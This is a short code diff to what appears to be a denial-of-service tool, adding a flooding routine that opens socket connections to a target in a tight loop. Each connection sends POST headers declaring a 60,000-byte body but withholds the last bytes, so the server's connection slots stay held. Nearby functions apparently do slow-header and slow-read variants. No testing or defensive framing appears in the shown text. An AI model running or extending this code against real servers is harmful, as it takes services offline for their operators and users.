@@ -182,6 +182,18 @@ def heads_line_by_line(target: Target) -> None:
 
 
 @flood
+def bodies_without_their_last_bytes(target: Target) -> None:
+    connections = []
+    while target.going:
+        with suppress(OSError):
+            connections.append(socket.create_connection((target.at.hostname, target.at.port), timeout=5))
+            connections[-1].sendall(target.head(*POST, "Content-Length: 60000") + b"x" * 59_990)
+        time.sleep(0.001)
+    for connection in connections:
+        connection.close()
+
+
+@flood
 def readers_that_do_not_read(target: Target) -> None:
     connections = []
     while target.going:
